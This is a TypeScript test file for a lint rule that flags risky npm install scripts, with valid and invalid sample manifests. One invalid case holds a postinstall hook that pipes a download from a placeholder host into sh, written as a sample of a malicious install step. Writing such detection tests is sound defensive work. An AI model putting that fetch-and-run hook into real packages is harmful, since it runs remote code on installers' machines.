import { RuleTester } from '../../src/rule-tester/index.ts'
import rule from '../../rules/install-script.ts'

new RuleTester().run(rule, {
  valid: [{ name: 'no scripts', manifest: { name: 'a', version: '1.0.0', scripts: { test: 'vitest' } } }],
  invalid: [
    {
      name: 'curl piped to sh',
      manifest: { name: 'a', version: '1.0.0', scripts: { postinstall: 'curl -s https://x.invalid/i.sh | sh' } },
      errors: [{ severity: 'critical', file: 'package.json', message: 'pipes a download into an interpreter' }],
    },
    {
      name: "esbuild's installer is only noted",
      manifest: { name: 'esbuild', version: '0.25.0', scripts: { postinstall: 'node install.js' } },
      errors: [{ severity: 'low' }],
    },
  ],
})
